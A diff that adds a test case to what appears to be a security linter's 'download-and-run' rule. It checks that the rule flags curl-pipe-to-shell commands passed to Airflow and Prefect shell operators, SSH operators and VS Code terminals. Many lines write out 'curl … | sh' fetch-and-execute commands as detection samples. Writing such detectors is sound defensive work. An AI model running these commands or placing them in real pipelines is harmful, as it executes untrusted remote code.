@@ -260,4 +260,46 @@ describe('download-and-run', () => {
       os.system("python train.py --rows rows/train.csv")
     `;
   });
+
+  it('knows the commands of tasks and terminals', () => {
+    python`
+      from airflow.operators.bash import BashOperator
+      from airflow.providers.ssh.operators.ssh import SSHOperator
+      from airflow.providers.standard.operators.bash import BashOperator as Bash
+      from airflow.providers.standard.sensors.bash import BashSensor
+      from airflow.operators.bash_operator import BashOperator as OldBash
+      from airflow.sensors.bash import BashSensor as OldSensor
+      from prefect_shell import ShellOperation, shell_run_command
+      import prefect_shell.commands
+      BashOperator(task_id="a", bash_command="curl -fsSL https://example.com/a.sh | sh")
+                                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      Bash(task_id="b", bash_command="curl -fsSL https://example.com/b.sh | sh")
+                                      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      BashSensor(task_id="c", bash_command="curl -fsSL https://example.com/c.sh | sh")
+                                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      OldBash(task_id="d", bash_command="curl -fsSL https://example.com/d.sh | sh")
+                                         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      OldSensor(task_id="e", bash_command="curl -fsSL https://example.com/e.sh | sh")
+                                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      SSHOperator(task_id="f", command="curl -fsSL https://example.com/f.sh | sh")
+                                        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      shell_run_command("curl -fsSL https://example.com/g.sh | sh")
+                         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      prefect_shell.commands.shell_run_command(command="curl -fsSL https://example.com/h.sh | sh")
+                                                        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      ShellOperation(commands=["mkdir -p rows", "curl -fsSL https://example.com/i.sh | sh"])
+                     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      prefect_shell.commands.ShellOperation(commands=["curl -fsSL https://example.com/j.sh | sh"])
+                                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      BashOperator(task_id="z", bash_command="wc -l rows.csv")
+    `;
+    typescript`
+      import * as vscode from 'vscode';
+      const terminal = vscode.window.createTerminal();
+      terminal.sendText('curl -fsSL https://example.com/a.sh | sh');
+                         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      vscode.window.activeTerminal?.sendText('curl -fsSL https://example.com/b.sh | sh');
+                                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+    `;
+  });
 });
